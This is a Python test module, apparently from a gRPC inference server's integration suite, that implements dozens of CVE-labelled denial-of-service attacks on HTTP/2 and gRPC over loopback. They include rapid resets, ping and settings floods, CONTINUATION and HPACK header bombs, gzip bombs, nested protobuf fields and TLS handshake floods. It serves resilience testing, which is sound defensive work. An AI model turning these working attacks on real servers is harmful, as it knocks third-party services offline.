"""What can be done to a gRPC port over loopback, each for a few seconds: known flaws of HTTP/2 and gRPC servers.

    python -m tests.integration.attacks NAME PORT [SECONDS]

runs one in a process of its own, so that who measures meanwhile shares no interpreter with it.
"""

from __future__ import annotations

import gzip
import itertools
import socket
import ssl
import struct
import sys
import time
import zlib
from collections import deque
from collections.abc import Callable
from contextlib import suppress

from tests.integration.http2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    RawClient,
    frame,
    header_block,
    message,
)

PRIORITY, CONTINUATION, UNKNOWN = 2, 9, 200
HEADER_TABLE_SIZE = 1
LITERAL = b"\0\x01x\x01y"
# As long as the table holds, which then names it in a byte.
LARGE_ENTRY = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"y" * 4000
INFER, STREAM = "ModelInfer", "ModelStreamInfer"
LARGE = 30 << 20  # of a message, with room to the limit that the tests set
CHUNK = 16384

Attack = Callable[[int, Callable[[], bool]], None]
ATTACKS: dict[str, Attack] = {}
TLS_ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


def tls_attack(function: Attack) -> Attack:
    """On a port with TLS."""
    TLS_ATTACKS[function.__name__] = function
    return function


def again(port: int, on: Callable[[], bool], once: Callable[[RawClient], None]) -> None:
    """The same on one connection after the other, for as long as there is time."""
    while on():
        with suppress(OSError):
            client = RawClient(port)
            with client:
                client.socket.settimeout(5)
                once(client)


def streams(port: int, on: Callable[[], bool], of: Callable[[int], bytes], at_once: int = 1) -> None:
    """On each new stream what `of` says, so many streams at a time."""

    def once(client: RawClient) -> None:
        stream = 1
        while on():
            client.socket.sendall(b"".join(map(of, range(stream, stream + 2 * at_once, 2))))
            stream += 2 * at_once

    again(port, on, once)


def flood(port: int, on: Callable[[], bool], one: bytes) -> None:
    """The same frame over and over, on a connection with an open stream."""
    many = one * (65536 // len(one))

    def once(client: RawClient) -> None:
        client.open(STREAM)
        while on():
            client.socket.sendall(many)

    again(port, on, once)


@attack
def empty_data(port: int, on: Callable[[], bool]) -> None:
    flood(port, on, frame(DATA, 0, 1, b""))


@attack
def pings(port: int, on: Callable[[], bool]) -> None:
    """CVE-2019-9512: each is answered, and nobody reads the answers."""
    flood(port, on, frame(PING, 0, 0, b"12345678"))


@attack
def settings(port: int, on: Callable[[], bool]) -> None:
    """CVE-2019-9515."""
    flood(port, on, frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535)))


@attack
def large_settings(port: int, on: Callable[[], bool]) -> None:
    """CVE-2020-11080: as many in a frame as it holds. CVE-2025-1948: a table of 4 GB."""
    flood(port, on, frame(SETTINGS, 0, 0, struct.pack(">HI", HEADER_TABLE_SIZE, (1 << 32) - 1) * (CHUNK // 6)))


def many_streams(client: RawClient) -> None:
    client.socket.sendall(
        b"".join(frame(HEADERS, END_HEADERS, stream, header_block(INFER)) for stream in range(1, 20_000, 2))
    )


@attack
def settings_of_many_streams(port: int, on: Callable[[], bool]) -> None:
    """Each changes the windows of 10,000 streams."""

    def once(client: RawClient) -> None:
        many_streams(client)
        windows = [frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, size)) for size in (1, 65535)]
        while on():
            client.socket.sendall(b"".join(windows) * 20)

    again(port, on, once)


@attack
def goodbyes(port: int, on: Callable[[], bool]) -> None:
    """For each the server looks which of 10,000 streams are not to come."""

    def once(client: RawClient) -> None:
        many_streams(client)
        while on():
            client.socket.sendall(frame(GOAWAY, 0, 0, bytes(8)) * 40)

    again(port, on, once)


@attack
def priorities(port: int, on: Callable[[], bool]) -> None:
    """CVE-2019-9513."""
    flood(port, on, frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") + frame(PRIORITY, 0, 3, b"\0\0\0\1\x20"))


@attack
def windows(port: int, on: Callable[[], bool]) -> None:
    flood(port, on, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


@attack
def unknown_frames(port: int, on: Callable[[], bool]) -> None:
    flood(port, on, frame(UNKNOWN, 0, 0, b"?"))


@attack
def rapid_resets(port: int, on: Callable[[], bool]) -> None:
    """CVE-2023-44487."""

    def of(stream: int) -> bytes:
        return frame(HEADERS, END_HEADERS, stream, header_block(INFER)) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")

    streams(port, on, of, 200)


@attack
def forced_resets(port: int, on: Callable[[], bool]) -> None:
    """CVE-2025-8671: windows that no stream can have, which the server has to reset."""

    def of(stream: int) -> bytes:
        widened = frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")
        return frame(HEADERS, END_HEADERS, stream, header_block(INFER)) + widened

    streams(port, on, of, 200)


@attack
def made_you_reset(port: int, on: Callable[[], bool]) -> None:
    """CVE-2025-8671 and CVE-2019-9514: what else makes a server reset a stream, behind a request that is whole."""
    block = header_block("ServerMetadata")
    wrong = (
        frame(WINDOW_UPDATE, 0, 0, bytes(4)),
        frame(PRIORITY, 0, 0, bytes(4)),
        frame(PRIORITY, 0, 0, b"\0\0\0\0\x10"),
        frame(HEADERS, END_HEADERS | END_STREAM, 0, header_block("ServerMetadata")),
        frame(DATA, END_STREAM, 0, bytes(10)),
    )

    def of(stream: int, one: bytes) -> bytes:
        payload = struct.pack(">I", stream) + b"\x10" if one[3] == PRIORITY and len(one) == 14 else one[9:]
        return frame(one[3], one[4], stream, payload)

    def once(client: RawClient) -> None:
        kind = next(kinds)
        stream = 1
        while on():
            burst = b"".join(
                frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, message(b"")) + of(s, wrong[kind])
                for s in range(stream, stream + 200, 2)
            )
            stream += 200
            client.socket.sendall(burst)

    kinds = itertools.cycle(range(len(wrong)))
    again(port, on, once)


@attack
def malformed_requests(port: int, on: Callable[[], bool]) -> None:
    """CVE-2019-9514: headers that no request may have, so that each is answered with a reset."""

    def of(stream: int) -> bytes:
        block = header_block(INFER) + b"\0\x01X\x01y"  # an upper-case name
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)

    streams(port, on, of, 200)


@attack
def resets_and_goodbyes(port: int, on: Callable[[], bool]) -> None:
    """CVE-2023-35945: a reset, a goodbye and the connection's end, whose bookkeeping must not stay."""

    def once(client: RawClient) -> None:
        burst = b"".join(
            frame(HEADERS, END_HEADERS, s, header_block(INFER)) + frame(RST_STREAM, 0, s, b"\0\0\0\x08")
            for s in range(1, 200, 2)
        )
        client.socket.sendall(burst + frame(GOAWAY, 0, 0, bytes(8)))

    again(port, on, once)


@attack
def half_headers_and_gone(port: int, on: Callable[[], bool]) -> None:
    """CVE-2024-27983: the connection ends amid headers."""

    def once(client: RawClient) -> None:
        client.socket.sendall(frame(HEADERS, 0, 1, header_block(INFER)) + frame(CONTINUATION, 0, 1, LITERAL * 100))
        client.reset()

    again(port, on, once)


@attack
def half_headers(port: int, on: Callable[[], bool]) -> None:
    """Each connection leaves 60 KB of a header waiting for its end."""
    value = b"\0\x01x" + b"\x7f\xe1\xd3\x03" + bytes(60_000)
    held: list[RawClient] = []
    while on():
        if len(held) >= 2000:
            time.sleep(0.1)
            continue
        with suppress(OSError):
            held.append(RawClient(port))
            held[-1].socket.settimeout(1)
            block = header_block(INFER) + value
            held[-1].socket.sendall(frame(HEADERS, 0, 1, block[:CHUNK]))
            for at in range(CHUNK, len(block), CHUNK):
                held[-1].socket.sendall(frame(CONTINUATION, 0, 1, block[at : at + CHUNK]))


@attack
def continuations(port: int, on: Callable[[], bool]) -> None:
    """CVE-2024-28182, CVE-2023-33953: headers without end."""

    def once(client: RawClient) -> None:
        client.socket.sendall(frame(HEADERS, 0, 1, header_block(INFER)))
        while on():
            client.socket.sendall(frame(CONTINUATION, 0, 1, b"\0\1x\x7f\x80\x7d" + bytes(16127 - 128 + 127)))

    again(port, on, once)


@attack
def padded_numbers(port: int, on: Callable[[], bool]) -> None:
    """CVE-2023-33953: a number of HPACK with zeros behind it."""

    def once(client: RawClient) -> None:
        block = header_block(INFER) + b"\0\x7f" + b"\x80" * 16000
        client.socket.sendall(frame(HEADERS, 0, 1, block[:CHUNK]))
        while on():
            client.socket.sendall(frame(CONTINUATION, 0, 1, b"\x80" * 16000))

    again(port, on, once)


@attack
def empty_headers(port: int, on: Callable[[], bool]) -> None:
    """CVE-2019-9516: headers with neither name nor value, in table after table."""

    def of(stream: int) -> bytes:
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, header_block(INFER) + b"\0\0\0" * 4000)

    streams(port, on, of)


@attack
def long_header_lists(port: int, on: Callable[[], bool]) -> None:
    """16 KB that unfold to megabytes: the table's largest entry, named again and again."""

    def of(stream: int) -> bytes:
        block = header_block(INFER) + LARGE_ENTRY + b"\xbe" * 12000
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)

    streams(port, on, of)


@attack
def long_trailers(port: int, on: Callable[[], bool]) -> None:
    """16 KB that unfold to megabytes, behind a request instead of before it."""

    def of(stream: int) -> bytes:
        request = header_block(INFER) + (LARGE_ENTRY if stream == 1 else b"")
        trailers = frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\xbe" * 16_000)
        return frame(HEADERS, END_HEADERS, stream, request) + trailers

    streams(port, on, of)


def whole_message(port: int, on: Callable[[], bool], content: bytes, coded: bool = False) -> None:
    """A right stream with a wrong message."""

    def once(client: RawClient) -> None:
        extra = {"grpc-encoding": "gzip"} if coded else {}
        stream = client.open(INFER, extra)
        head = struct.pack(">BI", 1 if coded else 0, len(content))
        client.send(stream, head + content[:60000])
        client.send_content(stream, content[60000:], seconds=5)
        client.answer(stream)

    again(port, on, once)


def nested(tag: int, content: bytes) -> bytes:
    length = len(content)
    prefix = bytearray([tag])
    while length > 127:
        prefix.append(length & 127 | 128)
        length >>= 7
    return bytes(prefix + bytes([length])) + content


@attack
def gzip_bomb(port: int, on: Callable[[], bool]) -> None:
    """A megabyte that becomes a gigabyte."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    bomb = b"".join(packer.compress(zeros) for _ in range(1024)) + packer.flush()
    whole_message(port, on, bomb, coded=True)


@attack
def gzip_of_inputs(port: int, on: Callable[[], bool]) -> None:
    """Few bytes that become 30 MB of empty inputs."""
    whole_message(port, on, gzip.compress(b"\x2a\x00" * (LARGE // 2), 9), coded=True)


@attack
def empty_inputs(port: int, on: Callable[[], bool]) -> None:
    whole_message(port, on, b"\x2a\x00" * (LARGE // 2))


@attack
def empty_outputs(port: int, on: Callable[[], bool]) -> None:
    whole_message(port, on, b"\x32\x00" * (LARGE // 2))


@attack
def nested_groups(port: int, on: Callable[[], bool]) -> None:
    """CVE-2024-7254, CVE-2022-1941: unknown fields within unknown fields."""
    whole_message(port, on, b"\xa3\x06" * (LARGE // 2))


@attack
def many_parameters(port: int, on: Callable[[], bool]) -> None:
    entries = b"".join(b"\x22\x08\x0a\x04%04x\x12\x00" % (i & 0xFFFF) for i in range(LARGE // 10))
    whole_message(port, on, entries[:LARGE])


@attack
def many_texts(port: int, on: Callable[[], bool]) -> None:
    """One input whose contents are millions of empty strings."""
    whole_message(port, on, nested(0x2A, nested(0x2A, b"\x42\x00" * (LARGE // 2 - 16))))


@attack
def long_names(port: int, on: Callable[[], bool]) -> None:
    """Names of megabytes that no ASCII is."""
    whole_message(port, on, nested(0x0A, "ä".encode() * (LARGE // 2 - 16)))


@attack
def half_messages(port: int, on: Callable[[], bool]) -> None:
    """Each claims a megabyte, and sends a little of it."""

    def once(client: RawClient) -> None:
        for _ in range(2000):
            if not on():
                return
            stream = client.open()
            client.send(stream, message(bytes(1000), claimed=1 << 20))
        while on():
            time.sleep(0.1)

    again(port, on, once)


@attack
def idle_calls(port: int, on: Callable[[], bool]) -> None:
    """16,384 on two connections, and no message."""
    with RawClient(port) as one, RawClient(port) as other:
        for client in (one, other):
            for _ in range(8192):
                client.open()
        while on():
            time.sleep(0.1)


@attack
def idle_streams(port: int, on: Callable[[], bool]) -> None:
    with RawClient(port) as one, RawClient(port) as other:
        for client in (one, other):
            for _ in range(8192):
                client.open(STREAM)
        while on():
            time.sleep(0.1)


@attack
def watches(port: int, on: Callable[[], bool]) -> None:
    """Of health: 20,000, half of them with names of 60 KB."""
    with RawClient(port) as one, RawClient(port) as other:
        for number in range(9000):
            for client, name in ((one, b"mlp"), (other, b"x" * 500)):
                stream = client.open("", path="/grpc.health.v1.Health/Watch")
                client.send(stream, message(nested(0x0A, name)), last=True)
            if number % 100 == 0 and not on():
                return
        while on():
            time.sleep(0.1)


@attack
def watches_of_long_names(port: int, on: Callable[[], bool]) -> None:
    def once(client: RawClient) -> None:
        stream = client.open("", path="/grpc.health.v1.Health/Watch")
        content = nested(0x0A, b"x" * 900_000)
        client.send(stream, message(b"", claimed=len(content)))
        client.send_content(stream, content, seconds=2)

    again(port, on, once)


@attack
def unread_answers(port: int, on: Callable[[], bool]) -> None:
    """CVE-2019-9517: windows of gigabytes, and nobody reads."""

    def once(client: RawClient) -> None:
        client.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        client.socket.sendall(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, (1 << 31) - 1)))
        client.socket.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 65536)))
        # Answers of a kilobyte or two: what a server says of itself.
        for _ in range(20000):
            if not on():
                return
            stream = client.open("", path="/inference.GRPCInferenceService/ServerMetadata")
            client.send(stream, message(b""), last=True)
        while on():
            time.sleep(0.1)

    again(port, on, once)


@attack
def dribble(port: int, on: Callable[[], bool]) -> None:
    """CVE-2019-9511: answers by the byte."""

    def once(client: RawClient) -> None:
        client.socket.sendall(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)))
        streams = []
        for _ in range(1000):
            stream = client.open("", path="/inference.GRPCInferenceService/ServerMetadata")
            client.send(stream, message(b""), last=True)
            streams.append(stream)
        while on():
            client.socket.sendall(b"".join(frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1") for stream in streams))

    again(port, on, once)


@attack
def bad_binary_headers(port: int, on: Callable[[], bool]) -> None:
    """CVE-2023-32732."""

    def once(client: RawClient) -> None:
        while on():
            client.open(INFER, {"x-bin": "*!*"})

    again(port, on, once)


@attack
def connections(port: int, on: Callable[[], bool]) -> None:
    """CVE-2023-4785: as many as the system gives, held open."""
    held: list[socket.socket] = []
    while on() and len(held) < 3000:
        with suppress(OSError):
            held.append(socket.create_connection(("127.0.0.1", port), timeout=1))
    while on():
        time.sleep(0.1)


@attack
def hellos_of_others(port: int, on: Callable[[], bool]) -> None:
    """TLS, HTTP/1.1 and noise."""
    hellos = (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"GET / HTTP/1.1\r\n\r\n", bytes(range(256)))
    while on():
        for hello in hellos:
            with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=1) as one:
                one.sendall(hello)


def recorded_hello(*, half: bool = False) -> bytes:
    """What a TLS client begins with: no server can tell that it was sent before."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    outgoing = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    hello = outgoing.read()
    return hello[: len(hello) // 2] if half else hello


HELLOS_PER_SECOND = 2000
HELD = 200


def hold_hellos(port: int, on: Callable[[], bool], hello: bytes, per_second: float) -> None:
    """One connection after the other says hello, and no more; the last ones stay open."""
    held: deque[socket.socket] = deque()
    begin, sent = time.monotonic(), 0
    while on():
        if sent > (time.monotonic() - begin) * per_second:
            time.sleep(0.001)
            continue
        sent += 1
        with suppress(OSError):
            held.append(socket.create_connection(("127.0.0.1", port), timeout=1))
            held[-1].sendall(hello)
        if len(held) > HELD:
            held.popleft().close()
    print(f"{sent / (time.monotonic() - begin):.0f} hellos a second")


@tls_attack
def tls_hellos(port: int, on: Callable[[], bool]) -> None:
    """Each makes the server agree on a key and sign it, and costs its sender a few hundred bytes."""
    hold_hellos(port, on, recorded_hello(), HELLOS_PER_SECOND)


@tls_attack
def tls_half_hellos(port: int, on: Callable[[], bool]) -> None:
    hold_hellos(port, on, recorded_hello(half=True), HELLOS_PER_SECOND)


@tls_attack
def tls_silence(port: int, on: Callable[[], bool]) -> None:
    """3,000 connections that say nothing."""
    held: list[socket.socket] = []
    while on() and len(held) < 3000:
        with suppress(OSError):
            held.append(socket.create_connection(("127.0.0.1", port), timeout=1))
    while on():
        time.sleep(0.1)


def main() -> None:
    name, port = sys.argv[1], int(sys.argv[2])
    until = time.monotonic() + (float(sys.argv[3]) if len(sys.argv) > 3 else 4)
    with suppress(OSError):
        (ATTACKS | TLS_ATTACKS)[name](port, lambda: time.monotonic() < until)


if __name__ == "__main__":
    main()
